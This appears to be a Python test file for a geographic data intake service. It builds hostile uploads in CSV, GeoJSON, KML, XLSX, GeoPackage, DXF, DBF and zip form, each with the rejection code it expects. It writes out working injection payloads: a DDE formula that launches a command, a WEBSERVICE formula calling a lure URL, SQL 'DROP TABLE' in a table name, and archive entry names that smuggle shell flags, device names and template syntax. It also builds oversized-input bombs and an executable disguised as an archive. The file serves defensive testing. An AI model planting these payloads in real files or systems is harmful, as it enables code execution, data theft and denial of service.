# ruff: noqa: E501 - files are written out as they arrive
"""More hostile files: sequences, sheets as wide as they go, archives in disguise, numbers of no size."""

import io
import json
import sqlite3
import struct
import tarfile
import zipfile
from pathlib import Path

import ezdxf
import openpyxl

from tests.unit.intake.delivery import estates, geopackage, shapefile, workbook, written
from tests.unit.intake.hostile import DATA, Lure, hostile, text, vrt

FEATURE = '{"type":"Feature","properties":{"name":"a"},"geometry":{"type":"Point","coordinates":[106.2,37.98]}}'
HEADS = ["编号", "名称", "类型", "经度", "纬度"]

text(
    "vrt in a line of a sequence",
    "json.broken",
    ".geojsonl",
    lambda lure: f"{FEATURE}\n{vrt(lure)}\n",
)
text(
    "too deep in a line of a sequence",
    "json.broken",
    ".ndjson",
    lambda _: f"{FEATURE}\n{'[' * 100_000}\n",
)
text(
    "separators without records",
    "refused.unknown",
    ".geojsonseq",
    lambda _: "\x1e" * 100_000,
)
text(
    "every feature with a property of its own",
    DATA,
    ".geojson",
    lambda _: json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "properties": {f"p{n}": n}, "geometry": None}
                for n in range(400)
            ],
        }
    ),
)
text(
    "a line of a million separators",
    DATA,
    ".csv",
    lambda _: "编号,名称\n" + "," * 1_000_000 + "\n" + "1,2\n" * 2000,
)
text(
    "a quotation mark and two million letters",
    DATA,
    ".csv",
    lambda _: '编号,名称\n"' + "甲" * 2_000_000,
)
text(
    "coordinates of no size",
    DATA,
    ".kml",
    lambda _: (
        '<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark><Point><coordinates>1e400,nan,inf</coordinates></Point></Placemark></kml>'
    ),
)


def _sheet(folder: Path, *rows: list[object]) -> Path:
    return workbook(folder / "a.xlsx", [HEADS, ["F01", "甲", "药店", 106.2, 37.98], *rows])


@hostile("dde formula", "cell.formula")
def _dde(folder: Path, _: Lure) -> Path:
    return _sheet(folder, ["F02", "=cmd|' /C calc'!A0", "药店", 106.2, 37.98])


@hostile("webservice formula", "cell.formula")
def _webservice(folder: Path, lure: Lure) -> Path:
    return _sheet(folder, ["F02", f'=WEBSERVICE("{lure.url}")', "药店", 106.2, 37.98])


@hostile("a cell in every corner of the sheet", "workbook.too_large")
def _corners(folder: Path, _: Lure) -> Path:
    path = _sheet(folder)
    book = openpyxl.load_workbook(path)
    book.active.cell(1_048_576, 16_384, "x")
    book.save(path)
    return path


@hostile("a merge over the whole sheet", "workbook.too_large")
def _merge(folder: Path, _: Lure) -> Path:
    path = _sheet(folder)
    book = openpyxl.load_workbook(path)
    book.active.merged_cells.add("A1:XFD1048576")
    book.save(path)
    return path


@hostile("a line of the template that states nonsense", DATA)
def _statement(folder: Path, lure: Lure) -> Path:
    path = _sheet(folder)
    book = openpyxl.load_workbook(path)
    for value in (
        f"EPSG:999999 {lure.url}",
        "GCJ-02; DROP TABLE",
        f"+proj=x +nadgrids={lure.secret}",
    ):
        book.create_sheet().append(["坐标系", value])
    book.save(path)
    return path


@hostile("tar called zip", "refused.unknown")
def _tar(folder: Path, _: Lure) -> Path:
    with tarfile.open(folder / "a.zip", "w") as archive:
        archive.add(_sheet(folder), "a.xlsx")
    (folder / "a.xlsx").unlink()
    return folder / "a.zip"


@hostile("program with an archive behind it", "refused.program")
def _extractor(folder: Path, _: Lure) -> Path:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.csv", ",".join(HEADS))
    (folder / "a.zip").write_bytes(b"MZ" + bytes(510) + buffer.getvalue())
    return folder / "a.zip"


@hostile("names that turn around, devices and very long ones", DATA)
def _names(folder: Path, _: Lure) -> Path:
    content = f"{','.join(HEADS)}\nF01,甲,药店,106.2,37.98\n".encode()
    with zipfile.ZipFile(folder / "a.zip", "w") as archive:
        for name in (
            "\u202egnp.csv",
            "CON.csv",
            "甲" * 5000 + ".csv",
            "a\nb.csv",
            "-rf.csv",
            "{{7*7}}.csv",
        ):
            archive.writestr(name, content)
    return folder / "a.zip"


@hostile("table whose name is a statement", DATA)
def _injected(folder: Path, _: Lure) -> Path:
    rows = estates(2)
    path = geopackage(folder / "a.gpkg", rows, written("EPSG:4490", rows))
    base = sqlite3.connect(path)
    name = 'x"; DROP TABLE gpkg_contents; --'
    base.execute('ALTER TABLE "小区" RENAME TO "{}"'.format(name.replace('"', '""')))
    for table in ("gpkg_contents", "gpkg_geometry_columns", "gpkg_ogr_contents"):
        base.execute(f"UPDATE {table} SET table_name = ?", (name,))  # noqa: S608 - a name of ours
    base.commit()
    base.close()
    return path


@hostile("blob that promises two thousand million points", "geometry.unreadable")
def _promises(folder: Path, _: Lure) -> Path:
    rows = estates(2)
    path = geopackage(folder / "a.gpkg", rows, written("EPSG:4490", rows))
    base = sqlite3.connect(path)
    blob = b"GP\x00\x01" + struct.pack("<iBIII", 4490, 1, 3, 1, 0x7FFFFFFF) + bytes(64)
    base.execute('UPDATE "小区" SET geom = ? WHERE fid = 1', (blob,))
    base.commit()
    base.close()
    return path


@hostile("drawing of numbers at their limit", DATA)
def _limits(folder: Path, _: Lure) -> Path:
    drawing = ezdxf.new("R2010")
    space = drawing.modelspace()
    space.add_point((1e308, -1e308))
    space.add_text("\\U+D800\\U+FFFF\\U+0000", dxfattribs={"insert": (1, 1)})
    space.add_arc((0, 0), 1e-300, 0, 1e9)
    drawing.saveas(folder / "a.dxf")
    return folder / "a.dxf"


@hostile("dbf whose columns are wider than it is long", "dbf.header")
def _wide(folder: Path, _: Lure) -> Path:
    path = shapefile(folder, estates(2))
    raw = bytearray(path.with_suffix(".dbf").read_bytes())
    raw[8:12] = struct.pack("<HH", 65_535, 65_535)
    path.with_suffix(".dbf").write_bytes(raw)
    return path
